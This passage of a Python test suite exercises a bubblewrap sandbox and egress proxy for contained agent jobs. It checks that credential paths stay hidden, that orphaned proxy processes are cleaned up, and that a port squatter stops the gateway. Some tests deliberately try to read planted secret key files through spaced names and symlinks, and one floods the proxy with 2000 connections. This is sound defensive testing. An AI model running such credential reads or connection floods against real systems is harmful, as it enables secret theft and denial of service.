                             text=True)
        assert bad.returncode == 2 and "not contained" in bad.stderr
    finally:
        shutil.rmtree(home, ignore_errors=True)


def test_a_home_gone_since_the_sandbox_was_made_is_not_mounted_over(tmp_path: Path) -> None:
    """userdel -r between the gateway's start and a job: hiding the home that no longer
    exists is neither needed nor possible (bwrap cannot mkdir on the read-only root)."""
    from corral.sandbox.bwrap import Sandbox

    kept, gone = tmp_path / "kept", tmp_path / "gone"
    kept.mkdir()
    gone.mkdir()
    box = Sandbox(frozenset({"agent"}), (), homes=(kept, gone))
    assert str(gone) in box.wrap("agent", ["true"], str(tmp_path), root=False)
    gone.rmdir()
    argv = box.wrap("agent", ["true"], str(tmp_path), root=False)
    assert str(gone) not in argv and argv[argv.index(str(kept)) - 1] == "--tmpfs"


def test_a_profile_renders_its_hiding_around_the_working_directory(tmp_path: Path) -> None:
    """The order bwrap applies mounts is the containment: what is hidden is emptied first,
    the working directory bound over it, and what is hidden inside the working directory
    emptied again over that bind (a credential in the project); a job that runs as another
    user becomes it with no capability left, its environment read by the last step."""
    project = tmp_path / "project"
    (project / ".aws").mkdir(parents=True)
    box = Sandbox(frozenset({"agent"}), (tmp_path, project / ".aws"), run_as="nobody", seccomp="00")
    profile, argv = box.profile("agent", ["make"], str(project), root=True, user=None, env_fd=7)
    ops = [(m.op, m.dst) for m in profile.mounts]
    hidden, bound, again = ops.index(("tmpfs", str(tmp_path))), ops.index(("bind", str(project))), \
        len(ops) - 1 - ops[::-1].index(("tmpfs", str(project / ".aws")))
    assert hidden < bound < again
    assert ("dir", str(project)) not in ops and argv == ["make"]
    rendered = profile.render(argv)
    assert rendered[rendered.index("--") + 1].endswith("setpriv") and "--bounding-set=-all" in rendered
    last = profile.steps[-1]
    assert last[-2:] == ("00", "7") and rendered[-1] == "make"


def test_a_batch_script_decides_what_is_hidden_when_it_runs(tmp_path: Path) -> None:
    """``Sandbox.shell`` (a Slurm job's script, run later on a node): a hidden path gone
    by then is left out (bwrap could not mount on it: "Can't mkdir"), one that became a
    directory is emptied as one, a name with a space stays one word; each job's own."""
    need_bwrap()
    top = Path(tempfile.mkdtemp(prefix="corral-later-", dir="/var/tmp"))  # not /tmp: the sandbox's own
    try:
        gone, changed, spaced, linked = top / "gone", top / "changed", top / "with space", top / "linked"
        gone.mkdir()
        changed.write_text("a file")
        spaced.mkdir()
        (spaced / "key").write_text(SECRET)
        (top / "dotfiles").mkdir()
        (top / "dotfiles" / "key").write_text(SECRET)
        for p in (top, gone, changed, spaced, spaced / "key", top / "dotfiles", top / "dotfiles" / "key"):
            p.chmod(0o755)
        box = Sandbox(frozenset({"agent"}), (gone, changed, spaced, linked), run_as="nobody")
        lines = box.shell("agent", ["bash", "-c", f"cat '{spaced}/key' '{changed}/key' '{linked}/key'; echo ran"],
                          "/tmp", ["env", "-u", "CORRAL_NOTHING"], root=True)
        assert lines.count("corral_hide ") == 4 and lines.splitlines()[-1].startswith("env -u CORRAL_NOTHING ")
        linked.symlink_to(top / "dotfiles")  # made a link since (bwrap mounts over none: where it leads is hidden)
        gone.rmdir()
        changed.unlink()
        changed.mkdir()
        (changed / "key").write_text(SECRET)
        (changed / "key").chmod(0o644)
        r = subprocess.run(["bash", "-c", lines], capture_output=True, text=True, timeout=30)
        assert r.stdout == "ran\n" and SECRET not in r.stdout + r.stderr, r
        assert r.stderr.count("No such file") == 3, r.stderr
        # the same box, rendered now for a job that starts now, agrees
        argv = box.wrap("agent", ["true"], "/tmp", root=True)
        assert str(gone) not in argv and argv[argv.index(str(changed)) - 1] == "--tmpfs"
    finally:
        shutil.rmtree(top, ignore_errors=True)


def test_a_hidden_path_gone_before_its_host_is_built_is_left_out(tmp_path) -> None:
    """The gateway lists what to hide when it takes a job; a supervisor builds the job's
    sandbox host a moment later. A hidden path removed in between (another user's home,
    userdel; seen in CI as "bwrap: Can't mkdir /home/...: Read-only file system", the job
    FAILED "could not start") is left out then: gone, it has nothing to hide. One still
    there is hidden."""
    import secrets

    from corral.sandbox.hostctl import still_there

    need_bwrap()
    gone, kept = (Path("/var/tmp") / f"corral-hide-{secrets.token_hex(4)}-{n}" for n in ("gone", "kept"))
    for d in (gone, kept):
        d.mkdir()
        (d / "secret").write_text("s3cret\n")
    try:
        box = build(["agent"], [gone, kept], False, "nobody", [tmp_path])
        argv = box.wrap("agent", ["cat", str(kept / "secret")], "/tmp", limit=False)
        shutil.rmtree(gone)
        before = subprocess.run(argv, capture_output=True, text=True, timeout=30)
        assert before.returncode != 0 and "Can't mkdir" in before.stderr, before  # what the supervisor met
        after = subprocess.run(still_there(argv), capture_output=True, text=True, timeout=30)
        assert after.returncode != 0 and "s3cret" not in after.stdout and "No such file" in after.stderr, after
    finally:
        for d in (gone, kept):
            shutil.rmtree(d, ignore_errors=True)


def test_a_gateway_killed_leaves_no_egress_proxy_behind(tmp_path) -> None:
    """kill -9 of the gateway takes its egress proxy with it, and every process the proxy
    forked: the proxy library's acceptor was left running after each crash (one more a
    crash, each holding the old socket; found in CI rehearsals)."""
    from .conftest import ended

    need_bwrap()
    with running(tmp_path, CORRAL_SANDBOX__ALLOW_HOSTS='["127.0.0.1:9"]') as gw:
        sock = str(gw.home / "egress" / "proxy.sock")

        def proxies() -> list[int]:
            found = []
            for d in Path("/proc").iterdir():
                try:
                    if d.name.isdigit() and sock in (d / "cmdline").read_bytes().decode(errors="replace"):
                        found.append(int(d.name))
                except OSError:
                    pass
            return found

        deadline = time.monotonic() + 20
        while len(proxies()) < 2 and time.monotonic() < deadline:  # the proxy, and the acceptor it forks
            time.sleep(0.1)
        pids = proxies()
        assert len(pids) >= 2, pids
        gw.kill(signal.SIGKILL)
        left = [p for p in pids if not ended(p)]
        assert left == [], f"still running after the gateway's kill -9: {left}"


def test_anyone_on_the_network_gets_a_bounded_share_of_the_egress_proxy(tmp_path, agent_dir) -> None:
    """[sandbox] egress_listen puts the egress proxy on an address the nodes reach, where
    nothing is authenticated: proxy.py's own listener had no bound, and a few hundred idle
    connections from anyone who reached it stalled the proxy and every contained job's way
    out with it (here a job on the gateway's machine, through the Unix socket: its fetch
    timed out). corral's own TCP side holds each address to a share and passes a
    connection on only once its request begins (attack46)."""
    import resource

    from .conftest import file_server, free_port

    need_bwrap()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, 4096), max(hard, 4096)))
    listen = f"127.0.0.1:{free_port()}"
    flood: list[socket.socket] = []
    try:
        with file_server(tmp_path / "mirror", "127.0.0.1", "from-the-mirror") as mport, \
                running(tmp_path, CORRAL_SANDBOX__ALLOW_HOSTS=f'["127.0.0.1:{mport}"]',
                        CORRAL_SANDBOX__EGRESS_LISTEN=listen) as gw:
            t = pair(gw)
            for _ in range(2000):
                flood.append(socket.create_connection(("127.0.0.1", int(listen.split(":")[1])), 5))
            time.sleep(1)
            job = run_job(gw, t["bot1"], f"curl -s -m 10 http://127.0.0.1:{mport}/ok.txt", agent_dir)
            closed = 0
            for s in flood:
                s.setblocking(False)
                try:
                    closed += s.recv(1) == b""
                except BlockingIOError:
                    pass
                except OSError:
                    closed += 1
        assert job["state"] == "COMPLETED" and job["out"] == "from-the-mirror", job
        assert closed >= 2000 - 128, closed  # one address's share; the rest closed as they came
    finally:
        for s in flood:
            s.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def test_an_egress_port_someone_holds_first_stops_the_gateway_saying_so(tmp_path) -> None:
    """Anyone on the gateway's machine may listen on [sandbox] egress_listen's port before
    the gateway starts. The proxy's TCP side then failed to bind in a thread nobody
    watched, the port still answered (the other program did), and the gateway started:
    every node's relay would have carried its jobs' fetches (a `pip install`) to whoever
    held the port. Now the gateway does not start, and says which port and what to do."""
    from .conftest import Gateway, free_port

    need_bwrap()
    squatter = socket.socket()
    squatter.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    squatter.bind(("127.0.0.1", 0))
    squatter.listen(16)
    taken = f"127.0.0.1:{squatter.getsockname()[1]}"
    gw = Gateway(tmp_path / "home", free_port(), extra_env={"CORRAL_SANDBOX__ALLOW_HOSTS": '["127.0.0.1:9"]',
                                                            "CORRAL_SANDBOX__EGRESS_LISTEN": taken})
    gw.home.mkdir()
    try:
        with pytest.raises(RuntimeError) as e:
            gw.start()
        assert f"egress_listen {taken}" in str(e.value) and "in use" in str(e.value), str(e.value)
        assert "Traceback" not in str(e.value), str(e.value)
    finally:
        gw.kill(signal.SIGTERM)
        squatter.close()
